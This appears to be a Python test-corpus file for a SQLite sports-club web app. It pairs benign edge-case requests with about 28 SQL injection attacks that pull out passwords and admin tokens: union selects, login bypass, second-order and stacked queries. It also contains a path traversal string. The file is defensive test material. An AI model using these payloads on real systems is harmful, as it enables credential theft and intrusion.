"""A sports club on SQLite."""

from tests.honest.corpus.cases import Attack
from tests.honest.corpus.thirteenth import (
    HOWTO,
    MARKUP,
    MOAN,
    PERSONS,
    REGEX,
    SOURCE,
    TALE,
    b64,
    call,
    filled,
    get,
    one,
    post,
    sqs,
)

NEEDS = ()
PASSWORD = "pw-captain-5150"
TOKEN = "clubtok-93f2"


def _change(number: str, **fields: object) -> dict[str, object]:
    return call("PATCH", "/members/{id}", fields, ids={"id": number})


def _cancel(number: str, member: str) -> dict[str, object]:
    return call("DELETE", "/bookings/{id}", ids={"id": number}, query={"member": member})


def _csv(text: str) -> dict[str, object]:
    return call("POST", "/import", b64(text), headers={"Content-Type": "text/csv"})


def _field(name: str, /, **arguments: object) -> dict[str, object]:
    return {"info": {"fieldName": name, "parentTypeName": "Query"}, "arguments": arguments, "identity": None}


REQUESTS = {
    "get_member": [one("/m", id="1"), one("/m", id="2"), one("/m", id="404")],
    "get_member_by_email": [
        one("/m", email="pat@club.example"),
        one("/m", email="Niamh.O'Sullivan+tennis@example.net"),
        one("/m", email='"x or 1=1"@example.net'),
        one("/m", email=" PAT@CLUB.EXAMPLE "),
    ],
    "list_members": [
        get("/m", q="O'Ne"),
        get("/m", q="Pat", level="junior"),
        get("/m", q="select * from; -- 100%"),
        get("/m", level="gold"),
        call("GET", "/m"),
    ],
    "create_member": [
        post("/m", email="a@example.net", name=PERSONS[0], phone="+44 (0)20 7946-0958"),
        post("/m", email="o'b@example.net", name=PERSONS[6]),
        post("/m", email="pat@club.example", name="Pat"),
        post("/m", name=PERSONS[4]),
    ],
    "update_member": [
        _change("2", name=PERSONS[5], phone="+1;ext=5"),
        _change("2", level="gold"),
        _change("2", email="x'--@example.net", name=MOAN),
    ],
    "update_member_checked": [
        _change("1", name=PERSONS[2], level="gold"),
        _change("2", password="x", role="admin"),
        _change("2", phone="0800 (freephone) / -- "),
        _change("1 or 1", name="it's me"),
    ],
    "delete_booking": [
        _cancel("1", "pat@club.example"),
        _cancel("2", "nobody@example.net"),
        _cancel("99", "a.b+c@x.example"),
    ],
    "list_courts": [
        call("GET", "/courts"),
        get("/courts", surface="grass", sort="-price"),
        get("/courts", max_price="20.50", indoor="true"),
        get("/courts", surface="it's clay; or grass", sort="price; drop table courts"),
    ],
    "list_bookings": [
        get("/b", day="2026-06-01"),
        get("/b", day="2026-06-01", order="hour desc"),
        get("/b", day="1st of June '26", order="day, hour"),
    ],
    "book": [
        post("/b", court=3, member="pat@club.example", day="2026-06-02", hour=9, remark=MOAN),
        post(
            "/b",
            court=1,
            member="o'x@example.net",
            day="2026-06-03",
            hour="21",
            remark="'; delete from bookings; --",
        ),
        post("/b", court=1, member="pat@club.example", day="2026-06-01", hour=10),
        post("/b", court=1, member="x", day="2026-06-01", hour=23),
    ],
    "book_quick": [
        post(
            "/b",
            court=2,
            member="pat@club.example",
            day="2026-06-09",
            hour=18,
            remark="left-handed; don't laugh",
        ),
        post("/b", court=1, member="O'Neill, Pat", day="2026-06-09", hour=8),
        post(
            "/b", court=3, member="Hall & Oates", day="2026-06-09", hour=12, remark="bring 2-3 friends -- thx"
        ),
    ],
    "login": [
        filled("/login", email="pat@club.example", password="pw-pat-1"),
        filled("/login", email="pat@club.example", password="wr0ng; pw#1"),
        filled("/login", email="x@example.net", password="--//--"),
        filled("/login", email="", password=""),
    ],
    "login_hashed": [
        filled("/login", email="pat@club.example", password="' or '1'='1"),
        filled("/login", email="o'neill@example.net", password="p\"w'); --"),
        filled("/login", password="x"),
    ],
    "fixtures": [
        call("GET", "/f"),
        get("/f", team="St. Mary's"),
        get("/f", team="United; B"),
        get("/f", team="x' or 'a'='a"),
    ],
    "fixtures_text": [
        get("/f", home="Rovers"),
        get("/f", home="United; B", sort="away"),
        get("/f", home="Rovers -- A", sort="score desc"),
    ],
    "add_fixture": [
        post("/f", home="St. John's", away='Real "B" & Co.', day="2026-07-01"),
        post("/f", home=MARKUP, away=PERSONS[7]),
        post("/f", home="Drop; Table", away="Union Select"),
    ],
    "notices": [
        call("GET", "/n"),
        get("/n", limit="1", offset="1"),
        get("/n", author="pat"),
        get("/n", author="o'x; --", limit="5"),
    ],
    "post_notice": [
        post("/n", title="Don't park here; please", body=HOWTO),
        post("/n", title=PERSONS[1], body=TALE),
        post("/n", title="SELECT committee -- 2026", body=SOURCE),
        post("/n", title=REGEX, body=""),
    ],
    "delete_notices": [
        call("DELETE", "/n", {"ids": [1]}),
        call("DELETE", "/n", {"ids": ["1", "9"]}),
        call("DELETE", "/n", {"ids": [7, 8, 9]}),
    ],
    "delete_notices_bound": [
        call("DELETE", "/n", {"ids": [2]}),
        call("DELETE", "/n", {"ids": ["1) or (1=1"]}),
        call("DELETE", "/n", {"ids": []}),
    ],
    "ladder": [one("/l", season="2026"), one("/l", season="2025"), one("/l", season="2025-2026 (indoor)")],
    "ladder_any": [
        get("/l", by="season", fn="sum"),
        get("/l", by="name", fn="avg"),
        get("/l", by="name; --", fn="max"),
        get("/l", by="points", fn="group_concat"),
    ],
    "set_nick": [
        post("/nick", sub="h1", nick="Pat"),
        post("/nick", sub="h2", nick="The 'Wall' -- O'Neill"),
        post("/nick", sub="h3", nick="\U0001f3be ace; 100%"),
    ],
    "my_games": [one("/g", sub="a-1"), one("/g", sub="a-2"), one("/g", sub="o'b; --")],
    "import_members": [
        _csv('email,name,phone\nx@example.net,"O\'Brien; DROP, Mary",+353 1\ny@example.net,李,\n'),
        _csv('\ufeffname,email\n"=SUM(A1) ""q""",z@example.net\nPat,pat@club.example\n'),
        _csv("email,name\n" + "".join(f"u{i}@example.net,User'{i}\n" for i in range(30))),
    ],
    "import_results": [
        sqs({"home": "Rovers", "score": "3:3"}),
        sqs({"home": "United", "score": "1-0 (aet)"}, {"home": "Rovers", "score": "0:0 -- abandoned"}),
        sqs({"home": "St Marys", "score": "w/o"}),
    ],
    "results_bound": [
        sqs({"home": "St. Mary's", "score": "it's 2:2"}),
        sqs("not json", {"home": "Rovers", "score": "'; drop table fixtures; --"}),
        sqs({"home": "Rovers"}, {"home": "United; B", "score": "9:8"}),
    ],
    "copy_season": [{"season": "2026"}, {"season": "summer 2026"}, {"season": "hallenrunde_26"}],
    "phone_book": [
        get("/p", names="Pat O'Neill"),
        get("/p", names="Pat O'Neill|Captain Ní Bhriain| O'Brien; DROP"),
        get("/p", names="a') or 1=1 --|b"),
    ],
    "resolver": [
        _field("court", name="Centre Court"),
        _field("court", name="Hall A"),
        _field("notice", title="AGM"),
        _field("notice", title="' or 1=1 --"),
    ],
    "route": [
        call("GET", "/health"),
        get("/echo", q=MOAN, sql="select 1; drop table x", path="../../etc/passwd"),
        call("POST", "/contact", {"name": PERSONS[6], "text": HOWTO}),
        call("GET", "/wp-admin/../x.php"),
    ],
    "court": [one("/c", id="1"), one("/c", id="1; select"), one("/c", id="99")],
    "put_court": [
        call("PUT", "/c", {"name": "O'Brien's; new -- clay", "price": 12.5}, ids={"id": "4"}),
        call("PUT", "/c", {"name": PERSONS[4], "price": "9", "indoor": True}, ids={"id": "2"}),
        call("PUT", "/c", {"name": MOAN, "price": 0, "surface": "it's sand"}, ids={"id": "7"}),
    ],
    "delete_member": [
        call("DELETE", "/m", ids={"id": "2"}),
        call("DELETE", "/m", ids={"id": "2' or '1'='1"}),
        call("DELETE", "/m", ids={"id": "50"}),
    ],
    "notice_search": [
        get("/n", q="Don't miss"),
        get("/n", q="closed -- works; or 1=1"),
        get("/n", q="100% _"),
        get("/n", q=" "),
    ],
    "page_of_fixtures": [
        call("GET", "/f"),
        get("/f", page="2", order="-day"),
        get("/f", order="home; drop", size="5"),
    ],
    "free_hours": [
        get("/h", court="1", day="2026-06-01"),
        get("/h", court="2 or 1=1", day="x"),
        get("/h", court="1", day="it's; --"),
    ],
}

ATTACKS = [
    Attack("SQL", "get_member", one("/m", id="-1 union select 1, password, 3 from members"), PASSWORD),
    Attack(
        "SQL",
        "get_member",
        one("/m", id="0/**/UNION/**/SELECT/**/token,token,1/**/FROM/**/admin_tokens"),
        TOKEN,
    ),
    Attack(
        "SQL",
        "get_member",
        one("/m", id="0 union select 1, hex(password), 3 from members order by 2 limit 1"),
        "70772D6361707461696E2D35313530",
    ),
    Attack(
        "SQL",
        "list_members",
        get("/m", q="zz", level="x' or level='gold' union select 1,password,3 from members --"),
        PASSWORD,
    ),
    Attack(
        "SQL",
        "list_members",
        get("/m", level="' UNION ALL SELECT NULL,token,NULL FROM admin_tokens WHERE '1'='1' --"),
        TOKEN,
    ),
    Attack(
        "SQL, column",
        "update_member",
        _change("2", **{"phone = (select token from admin_tokens), name": "x"}),
        TOKEN,
    ),
    Attack(
        "SQL, column",
        "update_member",
        _change("2", **{"level = 'gold', email = (select password from members where id = 1), name": "Pat"}),
        PASSWORD,
    ),
    Attack("SQL", "delete_booking", _cancel("1", "x' or '1'='1"), '\\"deleted\\": 2'),
    Attack("SQL", "delete_booking", _cancel("0 or 1=1 --", "x"), '\\"deleted\\": 2'),
    Attack(
        "SQL, order",
        "list_bookings",
        get(
            "/b",
            day="2026-06-01",
            order="hour limit (select 1 from members where password like 'pw-captain%')",
        ),
        '[{\\"day\\": \\"2026-06-01\\", \\"hour\\": 10, \\"remark\\": \\"bring balls\\"}]',
    ),
    Attack(
        "SQL",
        "book_quick",
        post("/b", court=1, member="x", day="2026-06-09', 9, (select token from admin_tokens)) --", hour=1),
        TOKEN,
    ),
    Attack(
        "SQL",
        "book_quick",
        post(
            "/b",
            court="1, (select password from members limit 1), '', 1, '') --",
            member="x",
            day="d",
            hour=1,
        ),
        PASSWORD,
    ),
    Attack(
        "SQL",
        "book_quick",
        post("/b", court=2, member="x", day="d", hour="9, (select group_concat(password) from members)) --"),
        PASSWORD,
    ),
    Attack(
        "SQL, login", "login", filled("/login", email="captain@club.example' --", password="x"), "Captain"
    ),
    Attack("SQL, login", "login", filled("/login", email="x", password="' or level = 'gold"), "Captain"),
    Attack(
        "SQL, login",
        "login",
        filled("/login", email="' union select token, 1 from admin_tokens --", password=""),
        TOKEN,
    ),
    Attack(
        "SQL, ORM", "fixtures_text", get("/f", home="x' union select token, 1, 2 from admin_tokens --"), TOKEN
    ),
    Attack(
        "SQL, ORM",
        "fixtures_text",
        get("/f", home="' or (select 1 from members where password like 'pw-cap%') or 'a'='"),
        '\\"2:1\\"], [\\"United',
    ),
    Attack("SQL, list", "delete_notices", call("DELETE", "/n", {"ids": ["0) or (1=1"]}), '{\\"left\\": []}'),
    Attack(
        "SQL, list",
        "delete_notices",
        call("DELETE", "/n", {"ids": [0, "9) or id not in (select 0"]}),
        '{\\"left\\": []}',
    ),
    Attack(
        "SQL, path", "ladder", one("/l", season="x' union select email, password from members --"), PASSWORD
    ),
    Attack(
        "SQL, path",
        "ladder",
        one(
            "/l",
            season="'||(select '')||'' UNION SELECT name, 1 FROM (SELECT token AS name FROM admin_tokens) WHERE 'x'='x",
        ),
        TOKEN,
    ),
    Attack(
        "SQL, second order",
        "my_games",
        one("/g", sub="evil"),
        TOKEN,
        before=[("set_nick", post("/nick", sub="evil", nick="' union select token, 1 from admin_tokens --"))],
    ),
    Attack(
        "SQL, second order",
        "my_games",
        one("/g", sub="evil2"),
        PASSWORD,
        before=[
            (
                "set_nick",
                post(
                    "/nick",
                    sub="evil2",
                    nick="x'/**/union/**/all/**/select/**/password,2/**/from/**/members/**/where'1",
                ),
            )
        ],
    ),
    Attack(
        "SQL, script",
        "import_results",
        sqs({"home": "x", "score": "'; update fixtures set score = (select token from admin_tokens); --"}),
        TOKEN,
    ),
    Attack(
        "SQL, script",
        "import_results",
        sqs({"home": "Rovers", "score": "' || (select password from members where id=1) || '"}),
        PASSWORD,
    ),
    Attack("SQL", "resolver", _field("court", name="' union select token, 1 from admin_tokens --"), TOKEN),
    Attack(
        "SQL",
        "resolver",
        _field("court", name="x' union select hex(token), 1 from admin_tokens where token like 'c%"),
        "636C7562746F6B2D39336632",
    ),
]
